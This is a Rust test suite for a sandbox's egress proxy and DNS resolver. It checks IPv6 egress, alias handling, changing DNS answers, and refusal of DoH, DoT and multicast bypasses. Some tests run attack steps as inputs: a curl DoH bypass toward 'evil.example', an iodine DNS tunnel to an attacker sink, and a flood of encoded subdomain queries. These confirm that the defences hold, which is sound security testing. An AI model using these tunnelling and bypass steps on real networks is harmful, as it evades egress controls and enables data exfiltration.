//! What a name leads to over the wire: by IPv6, through an alias, while its address changes; and the
//! ways round our resolver.

use std::io::{ErrorKind, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use hickory_proto::op::ResponseCode;
use hickory_proto::rr::RecordType;
use policy::net::{GATEWAY_IP, SYNTHETIC};
use world::client::{self, ACCESS_DENIED, AT_ONCE, End, PATIENT};
use world::origin::{GREETING, port};
use world::poll::eventually;
use world::world::{EGRESS, EGRESS_V6, NEIGHBOUR, PUBLIC_RESOLVER};
use world::{Guest, World, allow};

fn told(guest: &Guest<'_>, name: &str) -> Vec<Ipv4Addr> {
    let query = client::query(name, RecordType::A);
    let reply = guest.run(|| client::ask_udp((GATEWAY_IP, 53).into(), &query));
    client::addresses(&reply.expect("an answer"))
}

/// Promise 36. By TLS, by HTTP and by any protocol on a port that a rule names; the far side sees the
/// sandbox's IPv6 address.
#[test]
fn a_host_that_has_only_ipv6_is_reached_from_the_ipv6_egress_address() {
    let addresses = format!("addresses = [\"{EGRESS}\", \"{EGRESS_V6}\"]");
    let world = World::with(&format!("[egress]\n{addresses}\n"));
    let ((six, ip), api) = (world.site_v6("six"), world.site("api"));
    let ports = format!("ports = [80, 443, {}]", port::SERVER_FIRST);
    let guest = world.guest(&format!("[[rule]]\nallow = [\"{six}\"]\n{ports}\n{}", allow(&[&api])));
    for scheme in ["https", "http"] {
        let got = guest.curl(&[&format!("{scheme}://{six}/six")]);
        assert_eq!(got.status, 200, "{scheme}: {}", got.stderr);
    }
    let requests = world.requests(&six);
    assert_eq!(requests.len(), 2, "{requests:?}");
    for request in requests {
        assert_eq!((request.peer.ip(), request.local.ip()), (EGRESS_V6.into(), ip.into()));
    }
    let standing = told(&guest, &six);
    let [standing] = standing[..] else { panic!("{standing:?}") };
    assert!(SYNTHETIC.contains(&standing), "{standing}");
    let greeting = guest.run(|| {
        let stream = client::connect((standing, port::SERVER_FIRST).into(), PATIENT);
        let mut greeting = [0; GREETING.len()];
        stream.expect("connect").read_exact(&mut greeting).expect("the server speaks first");
        greeting
    });
    assert_eq!(greeting, GREETING);
    assert!(world.origin.connections(ip).iter().all(|way| way.peer.ip() == EGRESS_V6));
    let record = guest.event(&[
        ("outcome", "allow"),
        ("destination", &SocketAddr::from((standing, port::SERVER_FIRST)).to_string()),
    ]);
    assert_eq!(record["name"], *six);
    assert_eq!(record["dialed"], SocketAddr::from((ip, port::SERVER_FIRST)).to_string());
    // The address is a name and no permission: nothing else is behind it.
    let opened = world.origin.connections(ip).len();
    let other = guest.run(|| client::exchange((standing, port::ECHO).into(), &[b"x"], PATIENT));
    assert_eq!((other.end, other.bytes.len()), (End::Reset, 0));
    let unknown = Ipv4Addr::from_bits(standing.to_bits() ^ 0x0101);
    let other =
        guest.run(|| client::exchange((unknown, port::SERVER_FIRST).into(), &[b"x"], PATIENT));
    assert_eq!((other.end, other.bytes.len()), (End::Reset, 0), "nobody was told {unknown}");
    assert_eq!(world.origin.connections(ip).len(), opened);
    assert_eq!(world.sent(|seen| [standing, unknown].iter().any(|ip| seen.is_to(*ip))), []);
    guest.reaches(&api);
}

/// Promise 36. Without such an address it is said why, before anybody is dialled.
#[test]
fn a_host_that_has_only_ipv6_is_refused_with_the_reason_without_an_ipv6_egress_address() {
    let world = World::shared();
    let ((six, ip), api) = (world.site_v6("six"), world.site("api"));
    let guest = world.guest(&format!("[[rule]]\nallow = [\"{six}\"]\n{}", allow(&[&api])));
    let query = client::query(&six, RecordType::A);
    let reply = guest.run(|| client::ask_udp((GATEWAY_IP, 53).into(), &query)).expect("an answer");
    assert_eq!((reply.metadata.response_code, reply.answers.len()), (ResponseCode::NoError, 0));
    let (_, text) = client::extended_error(&reply).expect("an extended error");
    assert_eq!(text, "postern:egress-ip-unavailable");
    let hello = client::client_hello(&world.authority, &six);
    let reply = guest.run(|| client::exchange(api.at(443), &[&hello], PATIENT));
    assert_eq!(reply.alert(), Some(ACCESS_DENIED), "{reply:?}");
    for kind in ["dns", "connection"] {
        let code = ("code", "egress-ip-unavailable");
        guest.event(&[("kind", kind), ("outcome", "fail"), code, ("name", &six)]);
    }
    assert_eq!(world.sent_to(ip), []);
    guest.reaches(&api);
}

/// Attacks C07, P12. An allowed name is an alias of a name of a CDN; another name on the same address
/// gains nothing by it.
#[test]
fn another_name_at_the_address_of_an_allowed_alias_is_denied() {
    let world = World::shared();
    let (cdn, api) = (world.site("cdn"), world.site("api"));
    let other = format!("other-{}", cdn.name);
    world.names.set_alias(&api.name, &cdn.name);
    world.names.set_alias(&other, &cdn.name);
    let guest = world.guest(&allow(&[&api]));
    assert_eq!(told(&guest, &api.name), [cdn.ip], "control: told through the alias");
    guest.reaches(&api);
    let opened = world.origin.connections(cdn.ip).len();
    for name in [&other, &cdn.name] {
        assert_eq!(told(&guest, name), [Ipv4Addr::UNSPECIFIED; 0], "{name}");
        let hello = client::client_hello(&world.authority, name);
        let reply = guest.run(|| client::exchange(cdn.at(443), &[&hello], PATIENT));
        assert_eq!(reply.alert(), Some(ACCESS_DENIED), "{name}: {reply:?}");
        let resolve = format!("{name}:80:{}", cdn.ip);
        let got = guest.curl(&["--resolve", &resolve, &format!("http://{name}/")]);
        assert_eq!(got.status, 403, "{name}: {}", got.stderr);
        guest.event(&[("outcome", "deny"), ("code", "no-rule"), ("name", name)]);
    }
    assert_eq!(world.origin.connections(cdn.ip).len(), opened);
}

/// Attack P10.
#[test]
fn an_answer_that_may_not_be_kept_serves_the_connection_right_after_it() {
    let world = World::shared();
    let (web, raw) = (world.site("web"), world.site("raw"));
    for site in [&web, &raw] {
        world.names.set_turns(&site.name, 0, vec![vec![site.ip.into()]]);
    }
    let rule = format!("[[rule]]\nallow = [\"{}\"]\nports = [{}]\n", raw.name, port::ECHO);
    let guest = world.guest(&format!("{}{rule}", allow(&[&web])));
    for turn in 0..3 {
        let got = guest.curl(&[&format!("https://{}/{turn}", web.name)]);
        assert_eq!(got.status, 200, "{}", got.stderr);
        assert_eq!(told(&guest, &raw.name), [raw.ip]);
        let echo = guest.run(|| {
            let enough = |bytes: &[u8]| bytes.len() == 3;
            client::exchange_until(raw.at(port::ECHO), &[b"x\r\n"], PATIENT, enough)
        });
        assert_eq!(echo.bytes, b"x\r\n", "turn {turn}");
    }
}

/// Attacks C14, P11. An open connection outlives what was told about its name; a new one is looked up
/// and judged again.
#[test]
fn a_connection_outlives_the_answer_it_began_with_and_a_new_one_does_not() {
    let world = World::shared();
    let trap = world.site("moved");
    world.names.set_turns(&trap.name, 0, vec![vec![trap.ip.into()], vec![NEIGHBOUR.into()]]);
    let guest = world.guest(&format!(
        "[[rule]]\nallow = [\"{}\"]\nports = [443, {}]\n",
        trap.name,
        port::ECHO
    ));
    assert_eq!(told(&guest, &trap.name), [trap.ip]);
    let mut open = guest.run(|| client::connect(trap.at(port::ECHO), PATIENT)).expect("connect");
    let echo = |open: &mut std::net::TcpStream| {
        let mut back = [0; 3];
        open.write_all(b"x\r\n").and_then(|()| open.read_exact(&mut back)).expect("an echo");
        assert_eq!(&back, b"x\r\n");
    };
    echo(&mut open);
    let hello = client::client_hello(&world.authority, &trap.name);
    eventually("a new connection is refused", PATIENT, || {
        let reply = guest.run(|| client::exchange(trap.at(443), &[&hello], AT_ONCE));
        (reply.alert() == Some(ACCESS_DENIED)).then_some(())
    });
    guest.event(&[("outcome", "deny"), ("code", "private-address"), ("name", &trap.name)]);
    echo(&mut open);
    assert_eq!(world.sent_to(NEIGHBOUR), []);
}

/// Attack P16. No policy, and a public resolver: refused there as everywhere.
#[test]
fn without_any_rule_a_public_resolver_tells_nothing() {
    let world = World::shared();
    let api = world.site("api");
    let (closed, control) = (world.guest(""), world.guest(&allow(&[&api])));
    let public = (PUBLIC_RESOLVER, 53).into();
    let query = client::query(&api.name, RecordType::A);
    for guest in [&closed, &control] {
        let udp = guest.run(|| client::ask_udp(public, &query)).expect("an answer by UDP");
        let tcp = guest.run(|| client::ask_tcp(public, &query)).expect("an answer by TCP");
        for reply in [udp, tcp] {
            let expected = if guest.name == closed.name { vec![] } else { vec![api.ip] };
            assert_eq!(client::addresses(&reply), expected);
        }
    }
    closed.event(&[("kind", "dns"), ("outcome", "deny"), ("code", "no-rule"), ("name", &api.name)]);
    assert_eq!(world.sent_to(PUBLIC_RESOLVER), []);
}

/// Attack C09. DNS over TLS, over HTTPS and by multicast: there is our resolver and no other.
#[test]
fn other_ways_to_a_resolver_are_refused() {
    let world = World::shared();
    let api = world.site("api");
    let guest = world.guest(&allow(&[&api]));
    let doh = "dns.google";
    world.names.set(doh, &[PUBLIC_RESOLVER.into()]);
    let hello = client::client_hello(&world.authority, doh);
    let over_tls =
        guest.run(|| client::exchange((PUBLIC_RESOLVER, 853).into(), &[&hello], PATIENT));
    assert_eq!((over_tls.end, over_tls.bytes.len()), (End::Reset, 0), "{over_tls:?}");
    let over_https =
        guest.run(|| client::exchange((PUBLIC_RESOLVER, 443).into(), &[&hello], PATIENT));
    assert_eq!(over_https.alert(), Some(ACCESS_DENIED), "{over_https:?}");
    let resolve = format!("{doh}:443:{PUBLIC_RESOLVER}");
    let url = format!("https://{doh}/dns-query");
    let got = guest.curl(&["--doh-url", &url, "--resolve", &resolve, "https://evil.example/"]);
    assert_eq!(got.status, 0, "{}", got.head);
    let question = client::query(&api.name, RecordType::A).to_vec().expect("a query");
    for number in [853, 5353, 5355, 137] {
        let error = guest.run(|| {
            let socket = UdpSocket::bind("0.0.0.0:0").expect("bind");
            socket.connect((PUBLIC_RESOLVER, number)).expect("connect");
            socket.set_read_timeout(Some(PATIENT)).expect("timeout");
            socket.send(&question).expect("send");
            socket.recv(&mut [0; 16]).expect_err("nobody answers").kind()
        });
        assert_eq!(error, ErrorKind::HostUnreachable, "port {number}");
    }
    assert_eq!(world.sent_to(PUBLIC_RESOLVER), []);
    assert_eq!(world.names.asked(doh), []);
    guest.event(&[("outcome", "deny"), ("code", "no-rule"), ("name", doh)]);
    guest.reaches(&api);
}

/// Attacks C01, C02. The best known tunnel through DNS: for a name that no rule allows not a byte; under
/// an allowed wildcard its allowance.
#[test]
fn iodine_gets_nothing_out_and_under_a_wildcard_its_allowance() {
    const BURST: usize = 2048;
    let world =
        World::with(&format!("[dns]\nwildcard_burst = \"{BURST}\"\nwildcard_rate = \"16\"\n"));
    let (api, sink) = (world.site("api"), world.attacker());
    let closed = world.guest(&allow(&[&api]));
    let wild = world.guest(&format!("[[rule]]\nallow = [\"*.{}\"]\n", sink.name));
    let start = Instant::now();
    for guest in [&closed, &wild] {
        // It would make a device and serve it, and gives up when nobody answers as its server does.
        let mut iodine = guest.command("timeout");
        iodine.args(["-s", "INT", "8", "iodine", "-f", "-r", "-T", "A", "-P", "secret"]);
        let out = iodine.args([&GATEWAY_IP.to_string(), &sink.name]).output().expect("iodine");
        let said = String::from_utf8_lossy(&out.stderr).into_owned();
        assert!(said.contains("Sending DNS queries"), "control: it runs: {said}");
        let record = guest.event(&[("kind", "dns")]);
        assert!(record["name"].as_str().is_some_and(|name| name.ends_with(&sink.name)), "{record}");
        if guest.name == closed.name {
            assert_eq!(world.names.asked(&sink.name), []);
        }
    }
    // What iodine begins with is little; what it would go on with is a flood of full names.
    wild.run(|| {
        let socket = UdpSocket::bind("0.0.0.0:0").expect("bind");
        socket.connect((GATEWAY_IP, 53)).expect("connect");
        for n in 0..400 {
            let labels = format!("{n:03}{}", "d".repeat(57));
            let name = format!("{labels}.{labels}.{labels}.{}", sink.name);
            let query = client::query(&name, RecordType::A).to_vec().expect("a query");
            socket.send(&query).expect("send");
            std::thread::sleep(Duration::from_millis(2));
        }
    });
    wild.event(&[("kind", "dns"), ("outcome", "deny"), ("code", "limit")]);
    let heard: usize =
        world.names.asked(&sink.name).iter().map(|q| q.name.len() - "attacker.net".len()).sum();
    let seconds = usize::try_from(start.elapsed().as_secs() + 1).expect("short");
    assert!((BURST / 2..=BURST + 16 * seconds).contains(&heard), "{heard} bytes in {seconds} s");
    closed.reaches(&api);
}
